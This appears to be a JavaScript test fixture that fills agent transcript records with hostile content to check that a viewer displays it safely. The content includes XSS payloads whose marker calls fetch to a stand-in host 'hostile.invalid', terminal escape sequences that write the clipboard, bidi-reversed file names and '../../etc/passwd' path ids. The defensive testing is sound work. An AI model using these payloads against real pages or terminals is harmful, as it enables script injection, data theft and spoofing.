// Runs whose contents attack the page that shows them. Each attack that succeeds either sets
// `window.attacked`, opens a dialog, or sends a request to the host `hostile.invalid`.

import { RunWriter } from "./stores.js";

const MARK = "window.attacked=true;alert(1);fetch('https://hostile.invalid/stolen')";

/** Markup that would run script, load something or change the page if it were parsed. */
export const MARKUP = [
  `<script>${MARK}</script>`,
  `<img src=x onerror="${MARK}">`,
  `<img src="https://hostile.invalid/pixel.png">`,
  `<svg onload="${MARK}"><script>${MARK}</script></svg>`,
  `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${MARK}"></body></foreignObject></svg>`,
  `<iframe srcdoc="<script>parent.attacked=true</script>"></iframe>`,
  `<a href="javascript:${MARK}">Click me</a>`,
  `[click](javascript:${MARK})`,
  `<form action="https://hostile.invalid/"><button autofocus onfocus="${MARK}">go</button></form>`,
  `<style>body{display:none}@import url(https://hostile.invalid/a.css);</style>`,
  `<meta http-equiv="refresh" content="0;url=https://hostile.invalid/">`,
  `<base href="https://hostile.invalid/">`,
  `<link rel="stylesheet" href="https://hostile.invalid/b.css">`,
  `<details open ontoggle="${MARK}">x</details>`,
  `</script></style></textarea></title><script>${MARK}</script>`,
  `"><script>${MARK}</script>`,
  `'-alert(1)-'`,
  "{{constructor.constructor('alert(1)')()}}",
  "__proto__",
];

/** Escape sequences of terminals: colours, cursor movement, links, the clipboard, the window title. */
export const ESCAPES = [
  "\u001b[31mred\u001b[0m \u001b[1;4;38;5;208morange\u001b[0m \u001b[38;2;10;200;10mgreen\u001b[0m",
  "\u001b[2J\u001b[H\u001b[1A\u001b[2Kmoved the cursor",
  "\u001b]8;;javascript:alert(1)\u001b\\a link\u001b]8;;\u001b\\",
  "\u001b]8;;https://hostile.invalid/\u0007another link\u001b]8;;\u0007",
  "\u001b]52;c;aG9zdGlsZQ==\u0007clipboard",
  "\u001b]0;a window title\u0007",
  "\u001bPq#0;2;0;0;0#0~~@@\u001b\\sixel",
  "\u009b31mC1 colour\u009b0m",
  "unfinished \u001b[38;5;",
  `${"\u001b[7m".repeat(5_000)}nested`,
  "nul \u0000 bell \u0007 backspace \u0008 vertical \u000b form \u000c delete \u007f",
];

/** Characters that reverse, hide or pile up text. */
export const UNICODE = [
  "access \u202egnp.exe\u202c level \u2066user\u2069",
  "\u202e\u202e\u202e\u202enever closed",
  "zero\u200bwidth\u200cjoin\u200der\ufeff\u2060\u00ad",
  `${"e\u0301".repeat(20)} Z${"\u0351\u0352\u0357\u035b".repeat(60)}algo`,
  "\u061c\u200e\u200f \u0627\u0644\u0639\u0631\u0628\u064a\u0629 \u05e2\u05d1\u05e8\u05d9\u05ea",
  "\ud83d\udc69\u200d\ud83d\udc69\u200d\ud83d\udc67\u200d\ud83d\udc66 \ud83c\udff4\u200d\u2620\ufe0f \u{e0041}\u{e0042}",
  "line\u2028separator\u2029paragraph\u0085next",
  "\ufdfd".repeat(40),
];

/** Ids that are no plain path segments. */
export const RUN_IDS = [
  "a/b/c",
  "a%2Fb",
  "..",
  "../../etc/passwd",
  ".",
  "<img src=x onerror=alert(1)>",
  `"quotes' and \`backticks\``,
  "?query=1&x#fragment",
  "back\\slash",
  "spaces in id ",
  "%",
  "%00",
  "\u202ereversed",
  "javascript:alert(1)",
  "//hostile.invalid/x",
  `long-${"x".repeat(1_000)}`,
];

/** The run with all hostile texts. */
export const HOSTILE_RUN = "hostile";

/** The length of the longest line, in characters. */
export const LONG_LINE = 10_000_000;

export function hostileRuns() {
  const run = new RunWriter(HOSTILE_RUN, { host: `<b onmouseover="${MARK}">host</b>` });
  const task = `${MARKUP[0]} ${MARKUP[1]} \u202etask\u202c\u001b[31m ${"very".repeat(400)}`;
  run.begin(task, { folder: `/tmp/${MARKUP[1]}`, model: MARKUP[3], command: MARKUP[15] });
  for (const text of [...MARKUP, ...ESCAPES, ...UNICODE]) {
    run.user(text).assistant(text);
    run.call("Bash", { command: text }, text, { isError: true });
    run.call("Edit", { file_path: text, old_string: text, new_string: `${text}\n${text}` }, text);
    run.call("Write", { file_path: `/tmp/${text}`, content: text }, text);
    run.call(text, { [text]: text, nested: [{ [text]: [text] }] }, text);
    run.deny("Bash", { command: text }, text);
  }
  // Midcourse names commands and files in its messages.
  for (let again = 0; again < 8; again += 1) {
    run.call("Bash", { command: `make '${MARKUP[1]}'` }, `Exit code 2\nmake: *** no rule for ${MARKUP[0]}`, { isError: true });
  }
  run.call(`tool-${"y".repeat(5_000)}`, { path: "z".repeat(50_000) }, "ok");
  run.call("Bash", { command: "cat one-line" }, "0123456789".repeat(LONG_LINE / 10));
  run.call("Bash", { command: "cat 200000 lines" }, "a line\n".repeat(200_000));
  run.call("Json", deep(90), JSON.stringify(deep(90)));
  run.call("Patch", { input: `*** Begin Patch\n*** Update File: ${MARKUP[0]}\n@@\n-${MARKUP[1]}\n+${MARKUP[3]}\n*** End Patch` }, "ok");
  run.assistant("\u0000").user("");
  const lines = run.lines;
  for (const id of RUN_IDS) {
    const odd = new RunWriter(id, { at: run.at });
    lines.push(...odd.begin(`Run with the id ${id.slice(0, 60)}`).call("Bash", { command: "true" }, "ok").end().lines);
  }
  return lines;
}

function deep(levels) {
  let value = MARKUP[0];
  for (let level = 0; level < levels; level += 1) value = level % 2 ? [value] : { [`key${level}`]: value };
  return value;
}
